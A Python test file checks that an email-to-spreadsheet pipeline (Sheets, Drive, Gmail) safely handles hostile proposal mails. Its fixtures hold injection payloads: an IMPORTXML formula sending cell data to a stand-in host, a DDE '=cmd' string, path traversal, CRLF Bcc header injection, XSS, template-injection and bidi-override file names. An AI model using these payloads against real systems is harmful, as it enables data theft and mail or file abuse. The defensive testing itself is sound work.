"""Text that attacks: in the workbook it is text, in Drive a safe name, in letters one harmless line. A few mails, always run."""

from __future__ import annotations

import base64
import email
import email.policy
import unicodedata
from collections.abc import Iterator

import pytest

from integrations.google.sheets import whole
from integrations.workbook.tabs import FILES, INBOX, LETTERS, PROPOSALS
from tests.documents.samples import multi, part, picture, text
from tests.hostile.desk import Desk, desk
from tests.hostile.strange_mails import Maker

JPG = picture()
FORMULA = '=IMPORTXML("http://x.example/?"&A1,"//a")'
ATTACKS = (
    # (title, name of a file)
    (FORMULA, "=cmd|' /C calc'!A0.jpg"),
    ("+62 LAPOR", "../../../etc/passwd.jpg"),
    ("-1+1 TUNTAS", "C:\\Windows\\system32\\foto.jpg"),
    ("@SUM(A1:A9)", "foto\r\nBcc: jahat@lain.example.jpg"),
    ("<img src=x onerror=alert(1)> UJI", "foto\u202egpj.exe.jpg"),
    ("{{ 7*7 }} {% for x in y %}", "foto\0.exe.jpg"),
    ("SIGAP\u202eFDP.EXE\u202c\u200b\ufeff", "<script>alert(1)</script>.jpg"),
    ("PANJANG " * 1250, "f" * 10_000 + ".jpg"),
)


def _mail(me: Maker, title: str, name: str) -> bytes:
    written = "".join(f"%{b:02X}" for b in name.encode())
    good = part(JPG + me.code.encode(), "Content-Type: image/jpeg", f"Content-Disposition: attachment; filename*=UTF-8''{written}")
    bad = part(b"\x78\x9f\x3e\x22" + b"\0" * 99, "Content-Type: application/ms-tnef", "Content-Disposition: attachment; filename*=UTF-8''%3D1%0D%0ABcc%3A%20winmail.dat")
    words = text(f"Yth. Panitia, terlampir usulan.\nJudul Inovasi : {title}\nNarahubung : =1+1 <b>x</b>\n")
    return me.mail(multi(words, good, bad), subject=f"=?utf-8?q?=3D1+1=0D=0ABcc:_jahat=40lain.example_usulan_{me.code}?=")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    makers = [Maker(f"T{n}") for n in range(len(ATTACKS))]
    with desk(tmp_path_factory.mktemp("text"), [m.code for m in makers]) as office:
        office.deliver(_mail(m, *attack) for m, attack in zip(makers, ATTACKS, strict=True))
        office.run()
        yield office


def test_nothing_that_was_sent_is_a_formula_or_lost(attacked: Desk) -> None:
    book = attacked.play.look().book
    tabs = attacked.workspace.sheets._client.http_client.fetch_sheet_metadata(
        book.id,
        params={
            "ranges": [whole(t.title) for t in (INBOX, PROPOSALS, FILES, LETTERS)],
            "fields": "sheets.data.rowData.values.userEnteredValue",
        },
    )["sheets"]
    cells = [
        v["userEnteredValue"]
        for t in tabs
        for d in t["data"]
        for r in d.get("rowData", ())
        for v in r.get("values", ())
        if "userEnteredValue" in v
    ]
    assert [c for c in cells if "formulaValue" in c or "errorValue" in c] == []
    texts = {c["stringValue"] for c in cells if "stringValue" in c}
    assert {n if len(n) <= 2000 else f"{n[:1995]}….jpg" for _, n in ATTACKS} <= texts
    assert FORMULA in texts
    assert len(book[PROPOSALS].rows) == len(ATTACKS)


def test_every_file_has_a_safe_name_in_drive(attacked: Desk) -> None:
    files = attacked.workspace.drive.marked("panitia-berkas", attacked.rulebook.edition.id)
    assert len(files) == len(ATTACKS)
    for file in files:
        assert file.name.endswith(".jpg")
        assert 4 < len(file.name) <= 150
        assert not set(file.name) & set('/\\:*?"<>|')
        assert not [c for c in file.name if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}]


def test_every_letter_has_only_our_headers_and_one_line_for_each_value(attacked: Desk) -> None:
    users = attacked.workspace.gmail._users
    rows = list(attacked.play.look().book[LETTERS])
    assert len(rows) == 2 * len(ATTACKS)  # a receipt and a request for what is missing
    drafts = [users.drafts().get(userId="me", id=r.text("draf"), format="raw").execute()["message"]["raw"] for r in rows if not r.text("pesan")]
    sent = [users.messages().get(userId="me", id=r.text("pesan"), format="raw").execute()["raw"] for r in rows if r.text("pesan")]
    for raw in drafts + sent:
        letter = email.message_from_bytes(base64.urlsafe_b64decode(raw), policy=email.policy.default)
        names = [n.lower() for n, _ in letter.items()]
        assert len(names) == len(set(names))
        assert not {"bcc", "cc", "reply-to"} & set(names)
        assert all(a.domain == "uji.example" for a in letter["to"].addresses)
        assert letter.get_content_type() == "text/plain"
        body = letter.get_content().replace("\r\n", "\n")
        assert not [c for c in letter["subject"] + body if unicodedata.category(c) in {"Cf", "Cc"} and c != "\n"]
        assert len(letter["subject"]) <= 300
        assert len(body) < 25_000
        assert "Bcc:" not in [line[:4] for line in body.splitlines()]
        assert max(map(len, raw_lines(raw))) < 999
    assert sum("winmail.dat: jenis berkas tidak diterima" in _body(raw) for raw in drafts + sent) == len(ATTACKS)


def raw_lines(raw: str) -> list[bytes]:
    """The lines of a message as they go over the wire."""
    return base64.urlsafe_b64decode(raw).split(b"\r\n")


def _body(raw: str) -> str:
    letter = email.message_from_bytes(base64.urlsafe_b64decode(raw), policy=email.policy.default)
    return str(letter.get_content())
